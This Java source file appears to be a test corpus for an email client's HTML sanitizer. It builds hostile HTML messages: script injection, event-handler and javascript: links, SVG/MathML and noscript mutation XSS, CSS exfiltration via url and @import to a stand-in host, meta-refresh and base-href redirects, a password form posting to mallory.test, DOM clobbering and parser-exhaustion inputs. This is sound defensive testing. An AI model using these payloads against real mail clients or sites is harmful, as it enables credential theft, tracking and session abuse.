package org.postroom.testing.corpus;

import java.util.List;

/** HTML that wants to run, to phone home or to look like something else. */
final class HostileHtml {
    private static final List<HostileMessage> ALL =
            List.of(
                    html(
                            "html-script",
                            "<script>alert(1)</script><SCRIPT src=//mallory.test/a.js></SCRIPT>text"),
                    html(
                            "html-onerror",
                            "<img src=x onerror=alert(1)><body onload=alert(2)><p onclick='alert(3)'>text"),
                    html(
                            "html-javascript-link",
                            "<a href=\"javascript:alert(1)\">a</a><a href=\"jAvA&#10;script&colon;alert(2)\">b</a>"),
                    html(
                            "html-data-link",
                            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>"),
                    html(
                            "html-vbscript",
                            "<a href='vbscript:msgbox(1)'>a</a><img src='javascript:alert(1)'>"),
                    html(
                            "html-svg",
                            "<svg onload=alert(1)><script>alert(2)</script><a xlink:href='javascript:alert(3)'><text>x</text></a></svg>"),
                    html(
                            "html-mathml",
                            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
                    html(
                            "html-noscript-mutation",
                            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
                    html(
                            "html-css-url",
                            "<div style=\"background:url(http://mallory.test/a.png)\">a</div><style>p{background-image:url('//mallory.test/b')}</style><p>text"),
                    html(
                            "html-css-import",
                            "<style>@import url(http://mallory.test/a.css);@import 'http://mallory.test/b.css';@font-face{font-family:x;src:url(//mallory.test/f)}</style>text"),
                    html(
                            "html-css-escapes",
                            "<div style=\"background:u\\72l(http://mallory.test/a);width:expression(alert(1));behavior:url(#x)\">text</div>"),
                    html(
                            "html-css-image-set",
                            "<div style=\"background:image-set('http://mallory.test/a' 1x);list-style:cross-fade(url(http://mallory.test/b),red)\">text</div>"),
                    html(
                            "html-css-covers-page",
                            "<div style=\"position:fixed;inset:0;z-index:99999;background:#fff\">Your session has ended</div>"),
                    html(
                            "html-meta-refresh",
                            "<meta http-equiv=refresh content='0;url=http://mallory.test/'>text"),
                    html(
                            "html-base",
                            "<base href='http://mallory.test/'><a href='login'>Sign in</a>"),
                    html(
                            "html-form",
                            "<form action='http://mallory.test/' method=post><input name=password type=password><button formaction='javascript:alert(1)'>Go</button></form>"),
                    html(
                            "html-frames",
                            "<iframe src='http://mallory.test/'></iframe><object data='http://mallory.test/'></object><embed src='http://mallory.test/'><frameset>"),
                    html(
                            "html-link-prefetch",
                            "<link rel=stylesheet href='http://mallory.test/a.css'><link rel=dns-prefetch href='//mallory.test'>text"),
                    html(
                            "html-remote-everything",
                            "<img src='http://mallory.test/1' srcset='http://mallory.test/2 2x'><picture><source srcset='http://mallory.test/3'></picture><video poster='http://mallory.test/4' src='http://mallory.test/5'></video><audio src='http://mallory.test/6'></audio><input type=image src='http://mallory.test/7'><table background='http://mallory.test/8'><tr><td background='http://mallory.test/9'>text"),
                    html(
                            "html-link-that-lies",
                            "<a href='http://mallory.test/login'>https://bank.example/login</a>"),
                    html(
                            "html-clobbering",
                            "<img name=body><form id=documentElement><input name=attributes></form><a id=postroom class=htmx-request data-message=1.1>text</a>"),
                    html(
                            "html-htmx-attributes",
                            "<div hx-get='/logout' hx-trigger=load data-hx-post='/changes'>text</div>"),
                    html(
                            "html-hidden-text",
                            "<p>seen</p><p style='display:none'>hidden</p><p style='font-size:0'>tiny</p>"),
                    html("html-deep", "<div>".repeat(30_000) + "bottom"),
                    html("html-huge-table", "<table>" + "<tr><td>cell".repeat(60_000) + "</table>"),
                    html("html-unclosed", "<p title=\"never closed <b>text"),
                    html(
                            "html-comment-tricks",
                            "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(2)</script>]]><?php alert(3) ?>"),
                    html(
                            "html-null-octets",
                            "<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x o\u0000nerror=alert(2)>"));

    private HostileHtml() {}

    static List<HostileMessage> all() {
        return ALL;
    }

    private static HostileMessage html(String name, String body) {
        return HostileMessage.of(
                name,
                "From: Mallory <mallory@mallory.test>\nTo: ines@postroom.example\nSubject: "
                        + name
                        + "\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<html><body>"
                        + body
                        + "\n");
    }
}
